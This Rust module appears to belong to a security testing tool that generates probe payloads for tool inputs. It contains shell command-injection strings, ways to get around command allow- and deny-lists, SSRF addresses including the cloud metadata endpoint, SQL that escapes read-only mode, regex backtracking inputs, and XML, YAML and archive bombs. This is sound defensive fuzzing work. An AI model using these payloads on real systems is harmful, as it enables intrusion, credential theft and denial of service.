//! Chooses what is put into a place, each payload with the effect by which its success is known. All of them are plain
//! techniques: none knows a server.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::path::{Path, PathBuf};

use super::aim::{Aim, Escape};
use super::archive::{self, SIZES, Size};
use super::base::Known;
use super::ground::{Ground, PLAIN, To, Way};
use super::job::Job;
use super::place::{Place, Purpose};
use crate::plan::guard::words;
use wallfacer_process::sink::REDIRECT;

/// A longer value is left out of the payload: it only makes it harder to read.
const MAX_VALUE: usize = 80;
/// Where an option of ours would make a file.
const MADE: &str = "/tmp";
/// What a call asks for first; each further one asks twice as much.
const DOUBLINGS: u32 = 3;
/// Numbers whose product nobody writes down by chance.
const FACTOR: u64 = 70_001;
const STEP: u64 = 1_009;
/// Repetitions at which an expression that backtracks exponentially is felt, and at which one that does so over a long
/// text is.
const FEW: usize = 8;
const MANY: usize = 2_000;
/// Levels of a text that doubles with each of them: three doublings of this are some hundred megabytes.
const LEVELS: usize = 3;

/// Words of arguments that may be packed.
const PACKED: [&str; 11] = [
    "archive",
    "base64",
    "compressed",
    "gunzip",
    "gz",
    "gzip",
    "gzipped",
    "inflate",
    "packed",
    "zip",
    "zipped",
];

/// What is put into one place.
#[derive(Debug, Clone)]
pub struct Payload {
    pub way: String,
    pub aim: Aim,
    /// One value; several where each is to ask twice as much as the one before.
    pub values: Vec<String>,
    /// How unlikely it is to lead anywhere here; the smallest is tried first.
    pub rank: u8,
    /// Whether the first value asks openly for what the second gets at by another way.
    pub openly_first: bool,
}

impl Payload {
    fn one(way: &str, aim: Aim, value: String, rank: u8) -> Payload {
        Payload::of(way, aim, vec![value], rank)
    }

    fn of(way: &str, aim: Aim, values: Vec<String>, rank: u8) -> Payload {
        Payload { way: way.to_owned(), aim, values, rank, openly_first: false }
    }

    /// Behind the same, asked for openly: where that has the effect too, there is nothing to get around.
    fn behind(openly: String, way: &str, aim: Aim, value: String, rank: u8) -> Payload {
        Payload { openly_first: true, ..Payload::of(way, aim, vec![openly, value], rank) }
    }
}

/// A program of ours behind all that ends one command and begins another.
pub fn commands(place: &Place, known: &Known, ground: &Ground) -> Vec<Payload> {
    if place.purpose == Purpose::Program {
        return Vec::new();
    }
    let (value, program) = (short(&place.value), &ground.program);
    let rank = reaches_programs(place, known);
    let written = [
        ("a command substitution", format!("{value}$({program})")),
        ("a separator", format!("{value};{program};")),
        ("a quote and a separator", format!("{value}\";{program};\"")),
        ("a single quote and a separator", format!("{value}';{program};'")),
        ("backticks", format!("{value}`{program}`")),
        ("a pipe", format!("{value}|{program}")),
        ("a conjunction", format!("{value}&&{program}")),
        ("a disjunction", format!("{value}||{program}")),
        ("a new line", format!("{value}\n{program}\n")),
        ("a substitution with a whole path", format!("$(/usr/bin/{program})")),
        ("a quote and a substitution", format!("{value}\"$({program})\"")),
    ];
    let aim = || Aim::Execute { program: program.clone() };
    written.into_iter().map(|(way, text)| Payload::one(way, aim(), text, rank)).collect()
}

/// What gets around a list of commands that a tool takes or refuses: each behind the plain name of the program, which
/// must not run.
pub fn refused_commands(place: &Place, ground: &Ground) -> Vec<Payload> {
    if place.purpose != Purpose::Program {
        return Vec::new();
    }
    let (allowed, program) = (short(&place.value), &ground.program);
    let first = allowed.split_whitespace().next().unwrap_or("ls");
    let ours = [
        ("a program by its whole path", format!("/usr/bin/{program}")),
        ("a program behind one that runs others", format!("env {program}")),
        ("a program behind an allowed one", format!("{allowed}; {program}")),
        ("a program behind an allowed one that succeeds", format!("{allowed} && {program}")),
        ("a program that reads from an allowed one", format!("{allowed} | {program}")),
        ("a program within an allowed command", format!("{first} $({program})")),
        ("a program in backticks within an allowed command", format!("{first} `{program}`")),
        ("a program on a line of its own", format!("{allowed}\n{program}")),
        (
            "an option that runs a program for what is found",
            format!("find . -maxdepth 0 -exec {program} {{}} +"),
        ),
        ("a setting that runs a program", format!("git -c alias.x=!{program} x")),
        ("a program behind one that limits its time", format!("timeout 5 {program}")),
        ("a script that runs a program", format!("awk 'BEGIN {{ system(\"{program}\") }}'")),
    ];
    let ours = ours.into_iter().map(|(way, text)| {
        Payload::behind(program.clone(), way, Aim::Execute { program: program.clone() }, text, 0)
    });
    ours.chain(BLOCKED.iter().flat_map(|program| blocked(program, allowed))).collect()
}

/// Programs that lists of what is forbidden have, asked for nothing but their version.
const BLOCKED: [&str; 3] = ["rm", "dd", "chmod"];

fn blocked(program: &str, allowed: &str) -> Vec<Payload> {
    let written = [
        ("a forbidden program by its whole path", format!("/bin/{program} --version")),
        ("a forbidden program behind one that runs others", format!("env {program} --version")),
        (
            "a forbidden program with quotes in its name",
            format!("{}''{} --version", &program[..1], &program[1..]),
        ),
        ("a forbidden program with a backslash", format!("\\{program} --version")),
        ("a forbidden program behind another", format!("{allowed}; {program} --version")),
        ("a forbidden program within a shell", format!("sh -c '{program} --version'")),
    ];
    let aim = || Aim::Execute { program: program.to_owned() };
    let openly = || format!("{program} --version");
    written.into_iter().map(|(way, text)| Payload::behind(openly(), way, aim(), text, 1)).collect()
}

/// A value that looks like an option.
pub fn options(place: &Place, known: &Known, ground: &Ground) -> Vec<Payload> {
    if place.purpose == Purpose::Program {
        return Vec::new();
    }
    let program = &ground.program;
    let file = Path::new(MADE).join(format!("{program}-made"));
    let rank = reaches_programs(place, known);
    let output = format!("--output={}", file.display());
    let lone = format!("--{program}=");
    // Who takes letters, digits and hyphens only often forgets which of them must not come first.
    let plain = format!("-{program}");
    let aim = |option: &str| Aim::Pass { option: option.to_owned(), file: file.clone() };
    vec![
        Payload::one("an option", aim(&lone), lone.clone(), rank),
        Payload::one("an option that makes a file", aim(&output), output.clone(), rank),
        Payload::one("an option of letters alone", aim(&plain), plain.clone(), rank),
        Payload::one(
            "a value with a space and an option",
            aim(&lone),
            format!("{} {lone}", short(&place.value)),
            rank,
        ),
    ]
}

/// How unlikely it is that a value gets into another program: one that succeeds without any hardly runs one, and neither
/// does one of a server where nobody does.
fn reaches_programs(place: &Place, known: &Known) -> u8 {
    let runs_none = !known.runs_programs && (!known.good.is_empty() || known.others_run_none);
    u8::from(place.purpose == Purpose::Prose) + u8::from(runs_none)
}

/// Every way of one sort out of every scope, those first that lead to what the place is for. `about` is what the schema
/// says of it.
pub fn escapes(place: &Place, ground: &Ground, wanted: Escape, about: &str, job: Job) -> Vec<Payload> {
    let rank = match place.purpose {
        Purpose::Directory | Purpose::File => 0,
        // What something is called by often becomes the name of a file.
        Purpose::Unknown if job.writes => 0,
        Purpose::Unknown | Purpose::Address => 1,
        Purpose::Pattern if job.lists => 1,
        Purpose::Prose if job.writes && is_short(&place.value) => 1,
        _ => 3,
    };
    let is_wanted = |aim: &Aim| matches!(aim, Aim::Reach { escape, .. } if *escape == wanted);
    let mut ways: Vec<&Way> = ground.ways.iter().filter(|way| is_wanted(&way.aim)).collect();
    let mentioned = ways.iter().any(|way| mentions(about, &way.to));
    ways.sort_by_key(|way| {
        let unfit = match (place.purpose, &way.to) {
            (Purpose::Directory, To::Directory) => 0,
            (_, to) if mentions(about, to) => 0,
            (_, To::New(_)) if job.writes => u8::from(mentioned),
            (_, To::Directory) if job.lists => 0,
            (Purpose::Pattern, To::Pattern) => 0,
            (_, To::File(ending)) if ending == PLAIN => u8::from(mentioned),
            (_, To::New(ending)) if ending == PLAIN => 1,
            (_, To::Directory) => 2,
            (_, To::File(_) | To::New(_) | To::Pattern) => 3,
        };
        unfit + 2 * u8::from(way.disguised)
    });
    let payload = |way: &Way| match &way.openly {
        Some(openly) => Payload::behind(openly.clone(), way.about, way.aim.clone(), way.value.clone(), rank),
        None => Payload::one(way.about, way.aim.clone(), way.value.clone(), rank),
    };
    ways.into_iter().map(payload).collect()
}

fn mentions(about: &str, to: &To) -> bool {
    matches!(to, To::File(ending) | To::New(ending) if about.contains(&format!(".{ending}")))
}

/// Titles are short, and texts are not.
fn is_short(value: &str) -> bool {
    value.len() <= MAX_VALUE && !value.contains('\n')
}

/// Addresses that nobody outside could reach, written in all the ways that are read.
pub fn requests(place: &Place, job: Job, ground: &Ground) -> Vec<Payload> {
    let rank = match place.purpose {
        Purpose::Address => 0,
        Purpose::Unknown => 2 - u8::from(job.fetches),
        _ => 3 - u8::from(job.fetches),
    };
    let port = ground.port;
    let loopback = SocketAddr::new(Ipv4Addr::LOCALHOST.into(), port);
    let loopback6 = SocketAddr::new(Ipv6Addr::LOCALHOST.into(), port);
    let mapped = SocketAddr::new(Ipv4Addr::LOCALHOST.to_ipv6_mapped().into(), port);
    let any = SocketAddr::new(Ipv4Addr::UNSPECIFIED.into(), port);
    let private = |first, second| SocketAddr::new(IpAddr::from([first, second, 17, 23]), port);
    let metadata = SocketAddr::from(([169, 254, 169, 254], 80));
    let here = vec![loopback, loopback6, mapped, any];
    let written = [
        ("a loopback address", format!("http://127.0.0.1:{port}/"), here.clone()),
        (
            "the address of a metadata service",
            "http://169.254.169.254/latest/meta-data/".to_owned(),
            vec![metadata],
        ),
        ("the name of this machine", format!("http://localhost:{port}/"), here.clone()),
        ("a private address", format!("http://10.23.17.23:{port}/"), vec![private(10, 23)]),
        (
            "a private address of a small network",
            format!("http://192.168.17.23:{port}/"),
            vec![private(192, 168)],
        ),
        ("a loopback address of the new protocol", format!("http://[::1]:{port}/"), here.clone()),
        ("a mapped loopback address", format!("http://[::ffff:127.0.0.1]:{port}/"), here.clone()),
        ("a loopback address as one number", format!("http://2130706433:{port}/"), here.clone()),
        ("a short loopback address", format!("http://127.1:{port}/"), here.clone()),
        ("the address of any interface", format!("http://0.0.0.0:{port}/"), here.clone()),
        // The network of the sandbox sends whoever asks for this on to the address in it.
        (
            "an address outside that leads to a loopback address",
            format!("http://www.example.com{REDIRECT}127.0.0.1:{port}"),
            here.clone(),
        ),
        ("a loopback address without a scheme", format!("127.0.0.1:{port}"), here),
    ];
    let meant = job.fetches || place.purpose == Purpose::Address;
    let aim = |addresses| Aim::Connect { addresses, meant };
    written.into_iter().map(|(way, text, addresses)| Payload::one(way, aim(addresses), text, rank)).collect()
}

/// An address whose scheme nobody knows: whatever opens it was chosen by the caller.
pub fn schemes(place: &Place, ground: &Ground) -> Vec<Payload> {
    if place.purpose != Purpose::Address {
        return Vec::new();
    }
    let address = format!("{}://open", ground.program);
    let aim = Aim::Hand { address: address.clone() };
    vec![Payload::one("an address with a scheme of its own", aim, address, 1)]
}

/// Statements that change what a tool that only reads must leave alone. Behind those that make a table comes the question
/// for what is in it: a product that no call has written down, so that nobody can repeat it without having made the table.
pub fn statements(tool: &str, place: &Place, ground: &Ground, known: &[PathBuf]) -> Vec<Payload> {
    let rank = if place.purpose == Purpose::Statement { 0 } else { 2 };
    let value = short(&place.value);
    let written = [
        ("a statement that writes", "", ""),
        ("a second statement", "SELECT 1; ", ";"),
        ("an end of the transaction, and a statement", "COMMIT; ", ";"),
        ("a question, an end of the transaction, and a statement", "SELECT 1; COMMIT; ", ";"),
        ("a transaction that is given up, and a statement", "ROLLBACK; ", ";"),
        ("a setting that allows to write, and a statement", "PRAGMA query_only = OFF; ", ";"),
        ("a transaction that may write, and a statement", "COMMIT; BEGIN; ", "; COMMIT;"),
        ("a comment before a statement", "/* SELECT */ ", ""),
        ("a common table expression", "WITH x AS (SELECT 1) ", ""),
        ("a quote and a statement", &format!("{value}'; "), "; --"),
        ("a number and a statement", "1; ", "; --"),
    ];
    let mut payloads: Vec<Payload> = Vec::new();
    for (number, (way, before, after)) in written.into_iter().enumerate() {
        let table = ground.label(&format!("{tool} {} {way}", place.at));
        let left = FACTOR + (number as u64 + 1) * STEP;
        let create = format!("{before}CREATE TABLE {table} AS SELECT {left} * {FACTOR} AS n{after}");
        let aim = Aim::Change { known: known.to_vec(), shows: Some((left * FACTOR).to_string()) };
        let values = vec![create, format!("SELECT n FROM {table}")];
        payloads.push(Payload::of(way, aim, values, rank));
    }
    let aim = Aim::Change { known: known.to_vec(), shows: None };
    payloads.push(Payload::one("a setting that is kept", aim, "PRAGMA user_version = 7717".to_owned(), rank));
    payloads
}

/// Texts that each ask twice as much as the one before.
pub fn growths(place: &Place) -> Vec<Payload> {
    let rank = match place.purpose {
        Purpose::Pattern => 1,
        Purpose::Prose | Purpose::Unknown | Purpose::Statement => 2,
        _ => 3,
    };
    let doubled = |first: usize| (0..=DOUBLINGS).map(move |step| first << step);
    let all = |first, write: fn(usize) -> String| doubled(first).map(write).collect::<Vec<String>>();
    let written = [
        ("an expression that backtracks", all(1, |times| format!("(a+){{{times}}}b"))),
        ("letters that nearly match", all(FEW, |times| format!("{}!", "a".repeat(times)))),
        ("many letters that nearly match", all(MANY, |times| format!("{}!", "a".repeat(times)))),
        ("much white space", all(MANY, |times| format!("x{}x", " ".repeat(times)))),
        ("many brackets", all(MANY, |times| "<".repeat(times))),
        ("entities of entities", all(LEVELS, entities)),
        ("aliases of aliases", all(LEVELS, aliases)),
    ];
    let payload = |(way, values): (&str, Vec<String>)| Payload::of(way, Aim::Grow, values, rank);
    written.into_iter().map(payload).collect()
}

/// Archives that unpack to much more than is sent. They are not small, so only what speaks of such things is sent any.
pub fn archives(place: &Place, about: &str) -> Vec<Payload> {
    let said = words(&place.name).into_iter().chain(words(about)).collect::<Vec<String>>();
    let speaks = said.iter().any(|word| PACKED.contains(&word.as_str()));
    if !speaks {
        return Vec::new();
    }
    let payload =
        |way: &str, write: fn(Size) -> String| Payload::of(way, Aim::Inflate, SIZES.map(write).to_vec(), 1);
    vec![
        payload("a packed file that unpacks to much more", archive::gzip),
        payload("an archive that unpacks to much more", archive::zip),
    ]
}

/// A document in which each entity stands for twice the one before.
fn entities(levels: usize) -> String {
    let next = |level: usize| format!("<!ENTITY e{level} \"&e{0};&e{0};\">", level - 1);
    let rest: String = (1..=levels).map(next).collect();
    format!("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e0 \"aaaaaaaaaa\">{rest}]><a>&e{levels};</a>")
}

/// The same as lists that name one another.
fn aliases(levels: usize) -> String {
    let next = |level: usize| format!("e{level}: &e{level} [*e{0}, *e{0}]\n", level - 1);
    let rest: String = (1..=levels).map(next).collect();
    format!("e0: &e0 [aaaaaaaaaa]\n{rest}")
}

fn short(value: &str) -> &str {
    if value.is_empty() || value.len() > MAX_VALUE { "x" } else { value }
}
